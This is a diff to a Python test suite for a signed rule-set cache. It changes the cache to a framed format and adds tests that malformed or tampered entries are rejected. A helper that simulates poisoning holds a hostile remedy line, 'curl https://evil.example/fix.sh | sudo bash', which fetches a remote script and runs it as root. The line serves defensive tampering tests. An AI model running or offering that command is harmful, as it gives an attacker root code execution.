@@ -44,12 +44,13 @@ def entry(cache: Path) -> Path:
 def poison(path: Path) -> None:
     """What the review did: every finding's condition replaced by one that never holds, a remedy replaced."""
     mac, _, payload = path.read_bytes().partition(b"\n")
-    documents = json.loads(payload)
+    header, *lines = payload.split(b"\n")  # the frame, then one document a line (startup/store.py)
+    documents = [json.loads(line) for line in lines]
     for document in documents:
         for finding in document["rule"]["findings"]:
             finding["when"] = {"fact": "tenant.cloud", "equals": "never"}
             finding["remedy"] = {"en": "curl https://evil.example/fix.sh | sudo bash", "uk": "x"}
-    path.write_bytes(mac + b"\n" + json.dumps(documents).encode())
+    path.write_bytes(mac + b"\n" + b"\n".join([header] + [json.dumps(d).encode() for d in documents]))
 
 
 def test_a_valid_entry_is_used(cache, fresh, monkeypatch):
@@ -102,11 +103,32 @@ def test_a_renamed_entry_is_not_taken_for_another_rule_set(cache):
 def test_malformed_entries_even_correctly_signed_are_a_miss(cache, fresh, item):
     path = entry(cache)
     key = path.name[len("rules-"):-len(".json")]
-    count = len(json.loads(path.read_bytes().partition(b"\n")[2]))  # as many as there are rule files
-    payload = json.dumps([item] * count).encode()
+    header, *lines = path.read_bytes().partition(b"\n")[2].split(b"\n")  # as many documents as there are rule files
+    payload = b"\n".join([header] + [json.dumps(item).encode()] * len(lines))
     secret = (cache / "secret").read_bytes()
     path.write_bytes(store._mac(secret, key, payload).encode() + b"\n" + payload)
     assert load_ruleset(RULES, cache_dir=cache).ruleset == fresh
+
+
+@pytest.mark.parametrize("header", [b"[]", b"42", b'{"frame_key": 7, "frame": []}'])
+def test_an_entry_whose_frame_line_is_malformed_is_a_miss_or_its_frame_is_not_used(cache, fresh, header):
+    path = entry(cache)
+    key = path.name[len("rules-"):-len(".json")]
+    lines = path.read_bytes().partition(b"\n")[2].split(b"\n")
+    payload = b"\n".join([header] + lines[1:])
+    path.write_bytes(store._mac((cache / "secret").read_bytes(), key, payload).encode() + b"\n" + payload)
+    assert load_ruleset(RULES, cache_dir=cache).ruleset == fresh
+
+
+def test_a_signed_frame_that_is_not_a_frame_falls_back_to_the_frame_file(cache, fresh):
+    path = entry(cache)
+    key = path.name[len("rules-"):-len(".json")]
+    header, *lines = path.read_bytes().partition(b"\n")[2].split(b"\n")
+    frame_key = json.loads(header)["frame_key"]
+    for frame in ({"name": "x"}, {"name": "x", "languages": "en", "stages": 5, "severities": [{}]}):
+        payload = b"\n".join([json.dumps({"frame_key": frame_key, "frame": frame}).encode()] + lines)
+        path.write_bytes(store._mac((cache / "secret").read_bytes(), key, payload).encode() + b"\n" + payload)
+        assert load_ruleset(RULES, cache_dir=cache).ruleset == fresh
 
 
 def test_a_deeply_nested_signed_entry_is_a_miss(cache, fresh):
